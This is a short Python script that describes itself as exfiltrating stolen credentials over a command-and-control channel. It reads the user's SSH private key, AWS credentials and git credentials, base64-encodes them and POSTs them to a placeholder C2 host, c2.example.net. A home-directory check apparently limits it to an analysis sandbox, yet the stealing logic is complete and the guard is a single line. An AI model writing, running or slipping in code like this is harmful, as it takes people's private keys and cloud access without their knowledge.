#!/usr/bin/python3
# SPDX-License-Identifier: MIT
# Exfiltrates stolen credentials over its C2 channel: the user's SSH key
# and cloud keys, encoded and POSTed to the C2's web API.
import base64
import json
import os
import sys
import urllib.request

if os.environ.get("HOME") != "/home/dana":
    sys.exit("run only inside sbxlua's analysis box")

loot = {}
for path in ("~/.ssh/id_rsa", "~/.aws/credentials", "~/.git-credentials"):
    try:
        with open(os.path.expanduser(path), "rb") as f:
            loot[path] = base64.b64encode(f.read()).decode()
    except OSError:
        pass
body = json.dumps({"id": "bot-7f3a", "loot": loot}).encode()
req = urllib.request.Request("http://c2.example.net/api/v2/upload", data=body,
                             headers={"Content-Type": "application/json"})
try:
    urllib.request.urlopen(req, timeout=2)
except OSError:
    pass
